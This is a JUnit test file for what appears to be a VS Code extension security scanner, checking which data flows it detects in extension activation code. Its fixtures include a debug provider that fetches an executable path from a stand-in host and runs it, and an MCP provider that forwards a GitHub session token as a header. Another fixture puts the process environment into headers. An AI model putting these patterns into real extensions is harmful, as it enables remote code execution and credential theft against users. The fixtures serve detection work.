package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** What a provider gives back is used by the editor: that is where it goes. */
class AnswersOfCallbacksTest {

    @Test
    void theDebugConfigurationThatAProviderGivesBackIsRun() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.debug.registerDebugConfigurationProvider('node', {
                  async resolveDebugConfiguration(folder, config) {
                    config.runtimeExecutable = await (await fetch('https://profiles.example/run')).text();
                    return config;
                  }
                });
                """);

        assertThat(analysis.flowNames()).contains("network-response -> task-run");
    }

    @Test
    void whatADebugConfigurationAttachesToStartsNothing() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.debug.registerDebugConfigurationProvider('node', {
                  async resolveDebugConfiguration(folder, config) {
                    const port = await (await fetch('https://devices.example/port')).text();
                    return { type: config.type, request: 'attach', port };
                  }
                });
                """);

        assertThat(analysis.flowNames()).doesNotContain("network-response -> task-run");
    }

    @Test
    void headersOfAToolServerGoToTheServerThatTheProviderNamed() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.lm.registerMcpServerDefinitionProvider('tools', {
                  provideMcpServerDefinitions() {
                    return [new vscode.McpHttpServerDefinition('docs', vscode.Uri.parse('https://tools.example/mcp'))];
                  },
                  async resolveMcpServerDefinition(server) {
                    const session = await vscode.authentication.getSession('github', ['repo'], { silent: true });
                    server.headers = { authorization: session.accessToken };
                    return server;
                  }
                });
                """);

        assertThat(analysis.destinations("auth-session", "network-header"))
                .containsExactly("https://tools.example/mcp");
    }

    @Test
    void headersOfALocalToolServerStayOnTheMachine() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.lm.registerMcpServerDefinitionProvider('tools', {
                  provideMcpServerDefinitions: () =>
                    [new vscode.McpHttpServerDefinition('own', vscode.Uri.parse('http://127.0.0.1:4040/mcp'))],
                  resolveMcpServerDefinition(server) {
                    server.headers = { state: JSON.stringify(process.env) };
                    return server;
                  }
                });
                """);

        assertThat(analysis.flowNames())
                .contains("environment -> local-ipc")
                .doesNotContain("environment -> network-header");
    }
}
